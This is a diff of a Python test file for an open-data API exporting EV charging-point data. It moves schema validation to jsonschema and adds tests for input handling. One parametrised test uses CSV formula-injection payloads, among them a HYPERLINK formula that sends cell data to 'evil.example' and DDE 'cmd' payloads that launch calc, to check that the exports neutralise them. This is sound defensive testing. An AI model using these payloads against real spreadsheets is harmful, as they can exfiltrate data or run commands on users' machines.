@@ -7,9 +7,13 @@ import json
 import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from urllib.parse import quote
 
 import psycopg
 import pytest
+from jsonschema import Draft202012Validator, FormatChecker
+from referencing import Registry, Resource
+from referencing.jsonschema import DRAFT202012
 
 from sgv import public
 from sgv.extensions import db
@@ -19,7 +23,13 @@ from sgv.opendata.formats import installation_object
 from sgv.public import documents as public_documents
 from sgv.registry import import_register
 from tests.ocpi_helpers import headers, make_party
-from tests.public_helpers import TARIFF, add_installation, live_cpo, push_status
+from tests.public_helpers import (
+    TARIFF,
+    add_installation,
+    live_cpo,
+    location_body,
+    push_status,
+)
 
 DEMO = Path(__file__).resolve().parent.parent / "data" / "ripree_demo.csv"
 SITE = "DGT-002787f0cedc0889"  # Iberdrola, Valdemoro: ES*IBD*E212659 and ES*IBD*E212766
@@ -32,60 +42,25 @@ SCHEMA_OF = {
 }
 
 
-# --- a JSON Schema checker for the subset sgv/opendata/openapi.py uses (no validator) ---
+# --- responses validated by jsonschema against the OpenAPI description's schemas ----------
 
-TYPES = {
-    "object": dict,
-    "array": list,
-    "string": str,
-    "boolean": bool,
-    "null": type(None),
-    "integer": int,
-    "number": (int, float),
-}
+# The description as the app publishes it; "#/components/schemas/…" resolves inside it.
+DESCRIPTION = Resource.from_contents(openapi.document(), default_specification=DRAFT202012)
+REGISTRY = Registry().with_resource("urn:sgv:opendata", DESCRIPTION)
 
 
-def errors(value, schema: dict, path: str = "$") -> list[str]:
-    """Return where `value` breaks `schema` (type, enum, properties, items, anyOf, $ref…)."""
-    if "$ref" in schema:
-        return errors(value, openapi.SCHEMAS[schema["$ref"].rsplit("/", 1)[1]], path)
-    if "anyOf" in schema:
-        if all(errors(value, option, path) for option in schema["anyOf"]):
-            return [f"{path}: {value!r} matches no option"]
-        return []
-    kinds = schema["type"] if isinstance(schema["type"], list) else [schema["type"]]
-    if not any(
-        isinstance(value, TYPES[k]) and not (isinstance(value, bool) and k in ("integer", "number"))
-        for k in kinds
-    ):
-        return [f"{path}: {value!r} is not {kinds}"]
-    found = []
-    if "enum" in schema and value not in schema["enum"]:
-        found.append(f"{path}: {value!r} not in {schema['enum']}")
-    if schema.get("format") == "date-time" and isinstance(value, str):
-        if not re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", value):
-            found.append(f"{path}: {value!r} is not a UTC date-time")
-    if isinstance(value, int | float) and not isinstance(value, bool):
-        if value < schema.get("minimum", value) or value > schema.get("maximum", value):
-            found.append(f"{path}: {value} out of range")
-    if isinstance(value, dict):
-        props = schema.get("properties", {})
-        found += [f"{path}: missing {k}" for k in schema.get("required", []) if k not in value]
-        if schema.get("additionalProperties") is False:
-            found += [f"{path}: extra {k}" for k in value if k not in props]
-        for key, item in value.items():
-            if key in props:
-                found += errors(item, props[key], f"{path}.{key}")
-    if isinstance(value, list):
-        if not schema.get("minItems", 0) <= len(value) <= schema.get("maxItems", len(value)):
-            found.append(f"{path}: {len(value)} items")
-        for index, item in enumerate(value):
-            found += errors(item, schema.get("items", {"type": list(TYPES)}), f"{path}[{index}]")
-    return found
+def errors(value, name: str) -> list[str]:
+    """Return where `value` breaks components/schemas/`name` of the OpenAPI description."""
+    schema = {"$ref": f"urn:sgv:opendata#/components/schemas/{name}"}
+    validator = Draft202012Validator(schema, registry=REGISTRY, format_checker=FormatChecker())
+    return [
+        f"{error.json_path}: {error.message}"
+        for error in sorted(validator.iter_errors(value), key=lambda e: e.json_path)
+    ]
 
 
 def conforms(name: str, document: dict) -> dict:
-    problems = errors(document, {"$ref": f"#/components/schemas/{SCHEMA_OF[name]}"})
+    problems = errors(document, SCHEMA_OF[name])
     assert problems == [], problems[:10]
     return document
 
@@ -234,6 +209,53 @@ def test_csv_has_one_documented_row_per_charge_point(demo, client):
         "21",
         "28342",
     )
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?"&A1,"Pay here")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_neutralises_formulas_from_the_register_and_cpos(app, client, formula):
+    site = add_installation(name=formula)  # longitude -3.7035
+    site.operator_name = formula
+    tariff_id = formula.replace("/", "")[:36]  # an id in a URL path: no slash, ≤ 36
+    _, token = make_party("ES", "ABC", state="live")
+    body = location_body()
+    for evse in body["evses"]:
+        evse["connectors"][0]["tariff_ids"] = [tariff_id]
+    response = client.put("/api/2.2.1/locations/ES/ABC/INST1", json=body, headers=headers(token))
+    assert response.status_code in (200, 201)
+    tariff = {**TARIFF, "id": tariff_id}
+    url = f"/api/2.2.1/tariffs/ES/ABC/{quote(tariff_id, safe='')}"
+    assert client.put(url, json=tariff, headers=headers(token)).status_code in (200, 201)
+
+    body = get(client, "installations.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [(r["name"], r["operator_name"]) for r in rows] == [("'" + formula, "'" + formula)] * 2
+    assert [r["price_tariff_id"] for r in rows] == ["'" + tariff_id] * 2
+    assert [r["price_energy_excl_vat"] for r in rows] == ["0.45"] * 2  # numbers untouched
+    assert all(r["longitude"] == "-3.7035" and float(r["latitude"]) == 40.4165 for r in rows)
+    assert ",40.4165,-3.7035," in body  # unquoted: a spreadsheet reads numbers
+    # The JSON exports (rendered by PostgreSQL) publish the data as it is: not a spreadsheet.
+    [site_json] = fetch(client, "installations.json")["installations"]
+    assert site_json["name"] == formula
+    price = site_json["charge_points"][0]["connectors"][0]["price"]
+    assert price["tariff_id"] == tariff_id
+
+
+def test_csv_leaves_harmless_text_and_negative_numbers_alone(demo, client):
+    rows = fetch(client, "installations.csv")
+    quoted = {(k, v) for r in rows for k, v in r.items() if v.startswith("'")}
+    assert quoted == {("operator_phone", "'+34 900 224 522")}  # "+…" is a formula to Excel
+    west = [r for r in rows if r["longitude"].startswith("-")]
+    assert west and all(float(r["longitude"]) < 0 for r in west)
 
 
 def test_status_without_since_lists_every_live_charge_point(demo, client):
@@ -482,8 +504,66 @@ def test_bad_parameters_get_a_400_json_error_naming_them(app, client, name, args
     response = client.get(f"/opendata/{name}", query_string=args)
     assert response.status_code == 400 and response.mimetype == "application/json"
     body = response.get_json()
-    assert errors(body, {"$ref": "#/components/schemas/Error"}) == []
+    assert errors(body, "Error") == []
     assert body["code"] == 400 and f"'{parameter}'" in body["description"]
+
+
+@pytest.mark.parametrize(
+    ("name", "parameter", "value", "echo"),
+    [
+        ("installations.json", "updated_since", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
+        ("installations.csv", "updated_since", "0001-01-01T00:30:00+01:00", "0001-01-01T00:00:00Z"),
+        ("installations.geojson", "updated_since", "0233-01-27T09:48:31Z", "0233-01-27T09:48:31Z"),
+        ("installations.json", "updated_since", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
+        (
+            "installations.json",
+            "updated_since",
+            "9999-12-31T23:00:00-05:00",
+            "9999-12-31T23:59:59Z",
+        ),
+        ("status.json", "since", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),
+        ("status.json", "since", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
+        ("status.json", "since", "2016-12-31T23:59:60Z", "2017-01-01T00:00:00Z"),  # leap second
+        ("status.json", "since", "2026-01-01t10:00:00.123456789z", "2026-01-01T10:00:00Z"),
+        (
+            "status.json",
+            "since",
+            "2026-01-01T10:00:00 01:00",
+            "2026-01-01T09:00:00Z",
+        ),  # + unencoded
+        ("status.json", "since", "2026-01-01", "2026-01-01T00:00:00Z"),
+    ],
+)
+def test_every_valid_date_time_is_accepted_and_echoed_in_utc(
+    demo, client, name, parameter, value, echo
+):
+    response = client.get(f"/opendata/{name}", query_string={parameter: value})
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    if not name.endswith(".csv"):
+        assert conforms(name, response.get_json())["filters"][parameter] == echo
+
+
+@pytest.mark.parametrize("operator", ["\x00", "IB\x00D", "IBD\n", "\x7f"])
+def test_an_operator_with_control_characters_is_a_400_not_a_crash(app, client, operator):
+    response = client.get("/opendata/installations.json", query_string={"operator": operator})
+    assert response.status_code == 400 and "'operator'" in response.get_json()["description"]
+
+
+def test_the_description_says_what_the_exports_refuse(app, client):
+    document = client.get("/opendata/openapi.json").get_json()
+    for path in document["paths"].values():
+        parameters = {p["name"]: p["schema"] for p in path["get"]["parameters"]}
+        assert parameters["operator"]["minLength"] == 1  # operator= is refused, not "all"
+        assert re.search(parameters["operator"]["pattern"], "IB\x00D") is None
+        assert re.fullmatch(parameters["bbox"]["pattern"][1:-1], "-3.8,40.3,-3.6,40.5")
+        assert not re.fullmatch(parameters["bbox"]["pattern"][1:-1], "-3,100,-2,101")
+        assert "swapped" in path["get"]["responses"]["400"]["description"]
+
+
+def test_an_unsupported_method_is_a_405_naming_the_allowed_ones(app, client):
+    response = client.post("/opendata/installations.json")
+    assert response.status_code == 405 and response.mimetype == "application/json"
+    assert set(response.headers["Allow"].replace(" ", "").split(",")) == {"GET", "HEAD", "OPTIONS"}
 
 
 def test_bbox_and_operator_filter_every_export(demo, client):
@@ -558,6 +638,46 @@ def test_openapi_describes_the_real_routes_and_resolves(app, client):
     csv_doc = document["paths"]["/opendata/installations.csv"]["get"]["responses"]["200"]
     description = csv_doc["content"]["text/csv"]["schema"]["description"]
     assert all(f"{column}:" in description for column in NAMES)
+
+
+def test_every_time_the_exports_write_is_documented_as_utc_with_z():
+    def times(schema):
+        if isinstance(schema, dict):
+            if schema.get("format") == "date-time":
+                yield schema
+            for value in schema.values():
+                yield from times(value)
+        elif isinstance(schema, list):
+            for value in schema:
+                yield from times(value)
+
+    found = list(times(openapi.SCHEMAS))
+    assert len(found) >= 6
+    assert all(
+        s["pattern"] == r"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z$" for s in found
+    )
+
+
+@pytest.mark.parametrize(
+    ("change", "where"),
+    [
+        (lambda d: d.update(generated_at="2026-01-01T10:00:00+01:00"), "$.generated_at"),
+        (lambda d: d.update(generated_at="2026-01-01T10:00:00.5Z"), "$.generated_at"),
+        (lambda d: d.update(extra=1), "$"),
+        (lambda d: d.pop("count"), "$"),
+        (lambda d: d.update(count=True), "$.count"),
+        (lambda d: d.update(count=1.5), "$.count"),
+        (lambda d: d["charge_points"][0].update(status="FREE"), "$.charge_points[0].status"),
+        (lambda d: d["charge_points"][0].update(evse_id=7), "$.charge_points[0].evse_id"),
+        (lambda d: d["filters"].update(bbox=[1, 2, "3", 4]), "$.filters.bbox"),
+        (lambda d: d["licence"].pop("attribution"), "$.licence"),
+    ],
+)
+def test_the_schema_check_refuses_a_document_that_breaks_the_contract(demo, client, change, where):
+    document = fetch(client, "status.json")  # conforms as served
+    change(document)
+    problems = errors(document, "StatusExport")
+    assert problems and all(p.startswith(where) for p in problems), problems
 
 
 # --- the overlap: a change committed while a client polled is not lost ------------------
